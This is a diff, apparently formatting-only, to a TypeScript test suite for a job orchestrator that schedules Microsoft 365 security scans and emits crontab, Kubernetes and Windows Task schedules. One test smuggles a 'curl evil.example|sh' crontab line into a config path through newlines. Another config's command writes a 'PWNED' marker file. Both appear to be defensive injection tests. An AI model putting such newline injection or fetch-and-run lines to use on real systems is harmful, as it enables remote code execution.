@@ -39,10 +39,30 @@ beforeAll(() => {
   writeFileSync(join(tmp, 'slow.js'), 'setTimeout(() => {}, 3000);\n');
   writeFileSync(join(tmp, 'fail.js'), 'console.error("scanner crashed"); process.exit(2);\n');
   config = writeConfig(join(tmp, 'svc.orchestrator.json'), [
-    { name: 'm365-daily', adapter: 'scubagear', input: SCUBA, schedule: '0 6 * * *', outputs: { bundle: 'out/m365', store: true, sinks: ['ndjson:out/events.ndjson'] } },
+    {
+      name: 'm365-daily',
+      adapter: 'scubagear',
+      input: SCUBA,
+      schedule: '0 6 * * *',
+      outputs: { bundle: 'out/m365', store: true, sinks: ['ndjson:out/events.ndjson'] },
+    },
     { name: 'm365-weekdays', adapter: 'scubagear', input: SCUBA, schedule: '30 7 * * 1-5', outputs: { bundle: 'out/weekdays' } },
-    { name: 'm365-slow', adapter: 'scubagear', input: SCUBA, command: [process.execPath, 'slow.js'], schedule: '*/15 * * * *', outputs: { bundle: 'out/slow' } },
-    { name: 'm365-broken', adapter: 'scubagear', input: SCUBA, command: [process.execPath, 'fail.js'], schedule: '0 */6 * * *', outputs: { bundle: 'out/broken' } },
+    {
+      name: 'm365-slow',
+      adapter: 'scubagear',
+      input: SCUBA,
+      command: [process.execPath, 'slow.js'],
+      schedule: '*/15 * * * *',
+      outputs: { bundle: 'out/slow' },
+    },
+    {
+      name: 'm365-broken',
+      adapter: 'scubagear',
+      input: SCUBA,
+      command: [process.execPath, 'fail.js'],
+      schedule: '0 */6 * * *',
+      outputs: { bundle: 'out/broken' },
+    },
   ]);
 });
 afterAll(() => rmSync(tmp, { recursive: true, force: true }));
@@ -77,7 +97,10 @@ describe('svc orchestrator (file store)', () => {
   it('refuses an invalid schedule with the file and the field (exit 3)', () => {
     const bad = writeConfig(join(tmp, 'bad.json'), [{ name: 'x', adapter: 'scubagear', input: 'a.json', schedule: '0 6 * *', outputs: { bundle: 'out' } }]);
     const result = orchestrator(['list', '--config', bad]);
-    expect([result.status, result.stderr]).toEqual([3, `Error: ${bad}: jobs[0].schedule: "0 6 * *" has 4 fields; expected 5 (minute hour day-of-month month day-of-week), or 6 with seconds first; see docs/orchestrator.md\n`]);
+    expect([result.status, result.stderr]).toEqual([
+      3,
+      `Error: ${bad}: jobs[0].schedule: "0 6 * *" has 4 fields; expected 5 (minute hour day-of-month month day-of-week), or 6 with seconds first; see docs/orchestrator.md\n`,
+    ]);
   });
 
   it('dispatches a job: bundle, stored run, last result', () => {
@@ -98,7 +121,9 @@ describe('svc orchestrator (file store)', () => {
     ]);
     expect(first.status).toBe(0);
     expect(second.status).toBe(3);
-    expect(second.stderr).toMatch(/^Error: job m365-slow is already running \(pid \d+ on .+ since \d{4}-.+Z\); wait for it to finish, or remove .+m365-slow\.lock if that process is gone\n$/);
+    expect(second.stderr).toMatch(
+      /^Error: job m365-slow is already running \(pid \d+ on .+ since \d{4}-.+Z\); wait for it to finish, or remove .+m365-slow\.lock if that process is gone\n$/,
+    );
   });
 
   it('reports a failed command with its stage and keeps the previous bundle (exit 5)', () => {
@@ -106,7 +131,10 @@ describe('svc orchestrator (file store)', () => {
     writeFileSync(join(tmp, 'out', 'broken', 'previous.txt'), 'kept');
     const result = orchestrator(['dispatch', 'm365-broken']);
     const log = join(home(), 'orchestrator', 'm365-broken', 'command.log');
-    expect([result.status, result.stderr]).toEqual([5, `Error: job m365-broken failed at stage command: ${process.execPath} fail.js exited with 2; its output is in ${log}\n`]);
+    expect([result.status, result.stderr]).toEqual([
+      5,
+      `Error: job m365-broken failed at stage command: ${process.execPath} fail.js exited with 2; its output is in ${log}\n`,
+    ]);
     expect(readFileSync(log, 'utf8')).toBe('scanner crashed\n');
     expect(readFileSync(join(tmp, 'out', 'broken', 'previous.txt'), 'utf8')).toBe('kept');
     expect(JSON.parse(readFileSync(join(home(), 'orchestrator', 'm365-broken.json'), 'utf8'))).toMatchObject({ status: 'failed', stage: 'command' });
@@ -115,7 +143,10 @@ describe('svc orchestrator (file store)', () => {
   it('emits crontab lines that cron-parser reads, each calling dispatch', () => {
     const result = orchestrator(['schedule', '--emit', 'crontab']);
     expect(result.status).toBe(0);
-    const lines = result.stdout.trim().split('\n').filter((line) => !line.startsWith('#') && !/^[A-Z_]+=/.test(line));
+    const lines = result.stdout
+      .trim()
+      .split('\n')
+      .filter((line) => !line.startsWith('#') && !/^[A-Z_]+=/.test(line));
     expect(lines).toHaveLength(4);
     for (const [i, name] of ['m365-daily', 'm365-weekdays', 'm365-slow', 'm365-broken'].entries()) {
       const fields = lines[i].split(' ');
@@ -129,7 +160,9 @@ describe('svc orchestrator (file store)', () => {
   it('refuses a config path or --svc with a line break, one line, exit 3, instead of emitting extra crontab lines', () => {
     const dir = join(tmp, 'x\n* * * * * curl evil.example|sh\n');
     mkdirSync(dir);
-    const file = writeConfig(join(dir, 'svc.orchestrator.json'), [{ name: 'm365-daily', adapter: 'scubagear', input: SCUBA, schedule: '0 6 * * *', outputs: { bundle: 'out/m365' } }]);
+    const file = writeConfig(join(dir, 'svc.orchestrator.json'), [
+      { name: 'm365-daily', adapter: 'scubagear', input: SCUBA, schedule: '0 6 * * *', outputs: { bundle: 'out/m365' } },
+    ]);
     expect(orchestrator(['schedule', '--emit', 'crontab', '--config', file])).toEqual({
       stdout: '',
       stderr: `Error: ${JSON.stringify(file)}: the config path holds the control character U+000A, which would break the lines of an emitted schedule; move or rename the config to a path without control characters; see docs/orchestrator.md\n`,
@@ -148,7 +181,15 @@ describe('svc orchestrator (file store)', () => {
     expect(result.status).toBe(0);
     const docs = parseAllDocuments(result.stdout).map((d) => {
       expect(d.errors).toEqual([]);
-      return d.toJS() as { apiVersion: string; kind: string; spec: { schedule: string; concurrencyPolicy: string; jobTemplate: { spec: { template: { spec: { containers: { image: string; command: string[] }[] } } } } } };
+      return d.toJS() as {
+        apiVersion: string;
+        kind: string;
+        spec: {
+          schedule: string;
+          concurrencyPolicy: string;
+          jobTemplate: { spec: { template: { spec: { containers: { image: string; command: string[] }[] } } } };
+        };
+      };
     });
     expect(docs.map((d) => [d.apiVersion, d.kind, d.spec.schedule, d.spec.concurrencyPolicy])).toEqual([
       ['batch/v1', 'CronJob', '0 6 * * *', 'Forbid'],
@@ -157,7 +198,10 @@ describe('svc orchestrator (file store)', () => {
       ['batch/v1', 'CronJob', '0 */6 * * *', 'Forbid'],
     ]);
     const container = docs[0].spec.jobTemplate.spec.template.spec.containers[0];
-    expect(container).toMatchObject({ image: 'registry.example/svc:1', command: ['svc', 'orchestrator', 'dispatch', 'm365-daily', '--config', '/svc/svc.orchestrator.json'] });
+    expect(container).toMatchObject({
+      image: 'registry.example/svc:1',
+      command: ['svc', 'orchestrator', 'dispatch', 'm365-daily', '--config', '/svc/svc.orchestrator.json'],
+    });
   });
 
   it('emits a Windows Task Scheduler 1.2 task per job', () => {
@@ -185,11 +229,16 @@ describe('svc orchestrator (file store)', () => {
     const weekdays = parse(orchestrator(['schedule', '--emit', 'windows-task', '--job', 'm365-weekdays']).stdout);
     expect(['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'].map((d) => weekdays(d).length)).toEqual([1, 1, 1, 1, 1, 0]);
     const many = orchestrator(['schedule', '--emit', 'windows-task']);
-    expect([many.status, many.stderr]).toEqual([2, 'Error: a Windows task runs one job: add --job <name> (jobs: m365-daily, m365-weekdays, m365-slow, m365-broken)\n']);
+    expect([many.status, many.stderr]).toEqual([
+      2,
+      'Error: a Windows task runs one job: add --job <name> (jobs: m365-daily, m365-weekdays, m365-slow, m365-broken)\n',
+    ]);
   });
 
   it('runs the schedule in the foreground until --max-runs', () => {
-    const seconds = writeConfig(join(tmp, 'seconds.json'), [{ name: 'tick', adapter: 'scubagear', input: SCUBA, schedule: '*/1 * * * * *', outputs: { bundle: 'out/tick' } }]);
+    const seconds = writeConfig(join(tmp, 'seconds.json'), [
+      { name: 'tick', adapter: 'scubagear', input: SCUBA, schedule: '*/1 * * * * *', outputs: { bundle: 'out/tick' } },
+    ]);
     const result = orchestrator(['schedule', '--config', seconds, '--max-runs', '2']);
     expect([result.status, result.stderr]).toEqual([0, '']);
     const lines = result.stdout.trim().split('\n');
@@ -200,9 +249,10 @@ describe('svc orchestrator (file store)', () => {
 });
 
 function events(): number {
-  return readFileSync(join(tmp, 'out', 'events.ndjson'), 'utf8').trim().split('\n').length;
+  return readFileSync(join(tmp, 'out', 'events.ndjson'), 'utf8')
+    .trim()
+    .split('\n').length;
 }
-
 
 describe('svc orchestrator on PostgreSQL (pg-boss queue)', () => {
   let pg: PostgresServer;
@@ -222,8 +272,18 @@ describe('svc orchestrator on PostgreSQL (pg-boss queue)', () => {
     ]);
     const until = new Date(Date.now() + 12_000).toISOString();
     const workers = await Promise.all([0, 1].map(() => svcAsync(['orchestrator', 'schedule', '--worker', '--until', until], env)));
-    expect(workers.map((w) => [w.status, w.stderr])).toEqual([[0, ''], [0, '']]);
-    const ran = workers.flatMap((w) => w.stdout.trim().split('\n').filter((line) => line !== '')).map((line) => line.replace(/^\S+ /, ''));
+    expect(workers.map((w) => [w.status, w.stderr])).toEqual([
+      [0, ''],
+      [0, ''],
+    ]);
+    const ran = workers
+      .flatMap((w) =>
+        w.stdout
+          .trim()
+          .split('\n')
+          .filter((line) => line !== ''),
+      )
+      .map((line) => line.replace(/^\S+ /, ''));
     expect(ran.sort()).toEqual(['m365-daily: ok (run 1)', 'm365-weekdays: ok']);
   }, 120_000);
 
@@ -233,7 +293,14 @@ describe('svc orchestrator on PostgreSQL (pg-boss queue)', () => {
     const other = join(tmp, 'other');
     mkdirSync(other, { recursive: true });
     const otherConfig = writeConfig(join(other, 'svc.orchestrator.json'), [
-      { name: 'm365-daily', adapter: 'scubagear', input: SCUBA, command: [process.execPath, '-e', "require('fs').writeFileSync('PWNED', 'x')"], schedule: '0 6 * * *', outputs: { bundle: 'out' } },
+      {
+        name: 'm365-daily',
+        adapter: 'scubagear',
+        input: SCUBA,
+        command: [process.execPath, '-e', "require('fs').writeFileSync('PWNED', 'x')"],
+        schedule: '0 6 * * *',
+        outputs: { bundle: 'out' },
+      },
     ]);
     expect(orchestrator(['dispatch', 'm365-daily', '--config', otherConfig], env).status).toBe(0);
     const worker = await svcAsync(['orchestrator', 'schedule', '--worker', '--max-runs', '1', '--until', new Date(Date.now() + 30_000).toISOString()], env);
